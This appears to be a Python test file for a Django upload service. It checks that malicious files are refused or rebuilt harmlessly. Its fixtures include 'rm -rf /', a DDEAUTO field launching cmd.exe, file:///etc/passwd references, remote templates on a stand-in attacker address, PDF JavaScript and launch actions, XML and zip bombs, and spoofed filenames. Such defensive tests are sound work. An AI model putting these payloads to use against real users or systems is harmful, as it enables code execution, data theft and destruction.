"""A booby-trapped file is refused in plain words and destroyed, or made harmless; it never reaches another reader as it came."""

import hashlib
import io

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name

from send.documents import storage
from send.errors import RuleBroken
from tests.send.documents import corpus
from tests.send.documents.corpus import DRAWING, EICAR_FILE, OFFICE, PAGE, PROGRAM, docx, odt, outside, pdf

pytestmark = pytest.mark.django_db
ATTACKER = "http://203.0.113.9/x"
LYING_TYPE = "<Override PartName='/x' ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>"


def _locked():
    saved = io.BytesIO()
    pikepdf.open(io.BytesIO(pdf())).save(saved, encryption=pikepdf.Encryption(owner="a", user="b"))
    return saved.getvalue()


def _field(words):
    return docx(f"<w:r><w:instrText>{words}</w:instrText></w:r>")


REFUSED = {
    "EICAR as text": ("a.txt", lambda: EICAR_FILE),
    "EICAR in a Word document": ("a.docx", lambda: docx(more={"word/media/a.txt": EICAR_FILE})),
    "a program named .pdf": ("a.pdf", lambda: PROGRAM),
    "a program named .jpg": ("a.jpg", lambda: PROGRAM),
    "a program named .docx": ("a.docx", lambda: PROGRAM),
    "a program named .mp4": ("a.mp4", lambda: PROGRAM),
    "a program named .mp3": ("a.mp3", lambda: PROGRAM),
    "a program named .txt": ("a.txt", lambda: PROGRAM),
    "a page named .jpg": ("a.jpg", lambda: PAGE),
    "a page named .txt": ("a.txt", lambda: PAGE),
    "a page named .pdf": ("a.pdf", lambda: PAGE),
    "a drawing named .png": ("a.png", lambda: DRAWING),
    "a drawing named .txt": ("a.txt", lambda: DRAWING),
    "a script named .txt": ("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "text with a NUL": ("a.txt", lambda: b"hello\0world, this is a letter"),
    "a PDF behind other bytes": ("a.pdf", lambda: PAGE + pdf()),
    "a PDF with a password": ("a.pdf", _locked),
    "a PDF without end": ("a.pdf", lambda: pdf()[:200]),
    "a PDF of lists in lists": ("a.pdf", corpus.deep_pdf),
    "a PDF that is its own child": ("a.pdf", corpus.looping_pdf),
    "a PDF named .docx": ("a.docx", pdf),
    "a photo named .pdf": ("a.pdf", corpus.photo),
    "a photo named .png": ("a.png", corpus.photo),
    "half a photo": ("a.jpg", lambda: corpus.photo()[:2000]),
    "a picture of 400 megapixels": ("a.png", corpus.pixel_bomb),
    "a zip named .docx": ("a.docx", lambda: corpus.archive({"a.txt": b"hello"})),
    "a zip named .odt": ("a.odt", lambda: corpus.archive({"a.txt": b"hello"})),
    "a zip bomb": ("a.docx", lambda: docx(more={"word/media/a.txt": bytes(40_000_000)})),
    "a thousand and more members": ("a.docx", lambda: docx(more={f"word/media/{n}.txt": b"" for n in range(1001)})),
    "an XML bomb": ("a.docx", lambda: docx(more={"word/styles.xml": corpus.XML_BOMB})),
    "an XML bomb in ODT": ("a.odt", lambda: odt(more={"styles.xml": corpus.XML_BOMB})),
    "XML that reads a file": ("a.docx", lambda: docx(more={"word/styles.xml": corpus.OUTSIDE_XML})),
    "deep XML": ("a.docx", lambda: docx(more={"word/styles.xml": "<a>" * 5000 + "</a>" * 5000})),
    "macros": ("a.docx", lambda: docx(more={"word/vbaProject.bin": b"x"})),
    "macros by another name": ("a.docx", lambda: docx(more={"word/x.dat": b"x"}, types=LYING_TYPE)),
    "macros by relation": ("a.docx", lambda: docx(relations=f'<Relationship Id="x" Type="{OFFICE}/vbaProject" Target="x.dat"/>')),
    "an ActiveX control": ("a.docx", lambda: docx(more={"word/activeX/activeX1.xml": "<a/>"})),
    "an OLE object": ("a.docx", lambda: docx(more={"word/embeddings/oleObject1.bin": b"x"})),
    "macros in the sheet behind a chart": (
        "a.docx",
        lambda: docx(more={"word/embeddings/sheet.xlsx": corpus.archive({"xl/vbaProject.bin": b"x"})}),
    ),
    "a program inside": ("a.docx", lambda: docx(more={"word/embeddings/setup.exe": PROGRAM})),
    "a template elsewhere": ("a.docx", lambda: docx(relations=outside("attachedTemplate", ATTACKER + ".dotm"))),
    "a template on a share": ("a.docx", lambda: docx(relations=outside("attachedTemplate", "file://203.0.113.9/share/x.dotm"))),
    "a template on a share, Windows way": (
        "a.docx",
        lambda: docx(relations=outside("attachedTemplate", "\\\\203.0.113.9\\share\\x.dotm")),
    ),
    "a picture elsewhere": ("a.docx", lambda: docx(relations=outside("image", ATTACKER))),
    "a frame elsewhere": ("a.docx", lambda: docx(relations=outside("frame", ATTACKER))),
    "a link to a script": ("a.docx", lambda: docx(relations=outside("hyperlink", "javascript:alert(1)"))),
    "a link to a file": ("a.docx", lambda: docx(relations=outside("hyperlink", "file:///c:/windows/x.exe"))),
    "a part in HTML": ("a.docx", lambda: docx(relations=f'<Relationship Id="x" Type="{OFFICE}/aFChunk" Target="x.mht"/>')),
    "a DDE field": ("a.docx", lambda: _field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k calc")),
    "a DDE field in pieces": (
        "a.docx",
        lambda: docx("<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO x y</w:instrText></w:r>"),
    ),
    "a picture field": ("a.docx", lambda: _field(f"INCLUDEPICTURE {ATTACKER}")),
    "a member that climbs out": ("a.docx", lambda: docx(more={"../../etc/x.xml": "<a/>"})),
    "a member at the root": ("a.docx", lambda: docx(more={"/etc/x.xml": "<a/>"})),
    "a macro in ODT": ("a.odt", lambda: odt(more={"Basic/Standard/Module1.xml": "<a/>"})),
    "a listener in ODT": ("a.odt", lambda: odt('<script:event-listener script:language="ooo:script"/>')),
    "a picture elsewhere in ODT": ("a.odt", lambda: odt(f'<draw:image xlink:href="{ATTACKER}"/>')),
    "a file in ODT": ("a.odt", lambda: odt('<text:section-source xlink:href="file:///etc/passwd"/>')),
    "a playlist named .mp4": ("a.mp4", lambda: b"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile:///etc/passwd\n"),
    "noise named .mp3": ("a.mp3", lambda: bytes(range(256)) * 40),
}


@pytest.mark.parametrize("what", REFUSED)
def test_it_is_refused_in_plain_words_and_destroyed(checked, what):
    name, make = REFUSED[what]
    document = checked(name, make())
    assert document.state == "rejected"
    assert document.refusal.endswith(".")
    assert list(storage.files().names()) == []


def _with(root=None, page=None):
    def change(made):
        for key, value in (root or {}).items():
            made.Root[key] = value(made) if callable(value) else value
        for key, value in (page or {}).items():
            made.pages[0].obj[key] = value(made) if callable(value) else value

    return pdf(change=change)


def _script():
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS="app.alert('hostile')")


def _launch():
    return Dictionary(S=Name.Launch, F="hostile.exe")


def _link(action):
    return lambda made: Array([made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=action))])


def _attached(made):
    made.attachments["hostile.exe"] = pikepdf.AttachedFileSpec(made, b"hostile bytes", filename="hostile.exe")
    return made.Root.get("/Names")


def _file_note(made):
    stream = made.make_indirect(pikepdf.Stream(made, b"hostile bytes"))
    spec = Dictionary(Type=Name.Filespec, F="hostile.exe", EF=Dictionary(F=stream))
    return Array([made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec))])


def _outline(made):
    item = made.make_indirect(Dictionary(Title="Start", A=_script()))
    return made.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))


HARMLESS = {
    "a script on opening": lambda: _with({"/OpenAction": _script()}),
    "a program on opening": lambda: _with({"/OpenAction": _launch()}),
    "a script by name": lambda: _with({"/Names": Dictionary(JavaScript=Dictionary(Names=["x", _script()]))}),
    "a script on closing": lambda: _with({"/AA": Dictionary(WC=_script())}),
    "a script on turning the page": lambda: _with(page={"/AA": Dictionary(O=_script())}),
    "a script behind a link": lambda: _with(page={"/Annots": _link(_script())}),
    "a program behind a link": lambda: _with(page={"/Annots": _link(_launch())}),
    "a script after a harmless step": lambda: _with(
        page={"/Annots": _link(Dictionary(S=Name.URI, URI="https://a.uk", Next=_script()))}
    ),
    "a share behind a link": lambda: _with(page={"/Annots": _link(Dictionary(S=Name.GoToR, F="\\\\hostile\\x.pdf", D=[0]))}),
    "a script address behind a link": lambda: _with(page={"/Annots": _link(Dictionary(S=Name.URI, URI="javascript:hostile()"))}),
    "a file address behind a link": lambda: _with(page={"/Annots": _link(Dictionary(S=Name.URI, URI="file:///hostile"))}),
    "a form that sends": lambda: _with(page={"/Annots": _link(Dictionary(S=Name.SubmitForm, F="http://hostile/"))}),
    "an attached program": lambda: _with({"/PieceInfo": Dictionary(), "/Names": _attached}),
    "a note with a program": lambda: _with(page={"/Annots": _file_note}),
    "a form in XML": lambda: _with({"/AcroForm": Dictionary(XFA="<hostile/>", Fields=[])}),
    "a script in the outline": lambda: _with({"/Outlines": _outline}),
    "hidden data": lambda: _with({"/Metadata": lambda made: made.make_stream(b"<x>hostile</x>")}),
}


@pytest.mark.parametrize("what", HARMLESS)
def test_a_pdf_is_rebuilt_without_what_acts_and_its_original_is_sealed(checked, what):
    sent = HARMLESS[what]()
    document = checked("report.pdf", sent, "application/pdf")
    assert document.state == "clean", document.refusal
    with storage.files().open(document.copy) as stored, pikepdf.open(stored) as copy:
        saved = io.BytesIO()
        copy.save(saved, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    assert b"hostile" not in saved.getvalue()
    assert storage.digest_of_stored(document.original) == hashlib.sha256(sent).hexdigest()


@pytest.mark.parametrize("tail", [PAGE, corpus.archive({"a.exe": PROGRAM}), b"<?php system('x'); ?>"])
def test_what_is_glued_to_a_photo_does_not_reach_its_copy(checked, tail):
    document = checked("a.jpg", corpus.photo() + tail)
    with storage.files().open(document.copy) as stored:
        assert tail[:20] not in stored.read()


@pytest.mark.parametrize(
    "name",
    [
        "report.pdf.exe", "report.exe.pdf", "photo.php.jpg", "a.html", "a.svg", "a.docm", "a.zip", "a.doc", "a.exe", "noending",
        "invoice\u202efdp.exe", "a\u202egpj.pdf", "a\0.pdf", "a.pdf\0.exe", "a.js", "a.xlsm", "a.", ".pdf", "..", "", "a.pdf/",
    ],
)  # fmt: skip
def test_a_name_made_to_mislead_is_refused(upload, name):
    with pytest.raises(RuleBroken):
        upload(name, b"words")


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/letter.txt", "letter.txt"), ("C:\\Users\\me\\letter.txt", "letter.txt"),
        ("a\r\nSet-Cookie: x=1.txt", "a Set-Cookie: x=1.txt"),
        ("👨‍👩‍👧 our family.txt", "👨‍👩‍👧 our family.txt"), ("é" * 300 + ".txt", "é" * 146 + ".txt"), ("رسالة.txt", "رسالة.txt"),
    ],
)  # fmt: skip
def test_an_unusual_name_is_kept_as_harmless_words(upload, name, kept):
    assert upload(name, b"words").name == kept


@pytest.mark.parametrize(
    ("name", "declared"), [("a.pdf", "text/html"), ("a.jpg", "image/svg+xml"), ("a.docx", "application/pdf"), ("a.txt", "a/b")]
)
def test_a_declared_type_that_disagrees_with_the_name_is_refused(upload, name, declared):
    with pytest.raises(RuleBroken, match="something else"):
        upload(name, b"words", declared)
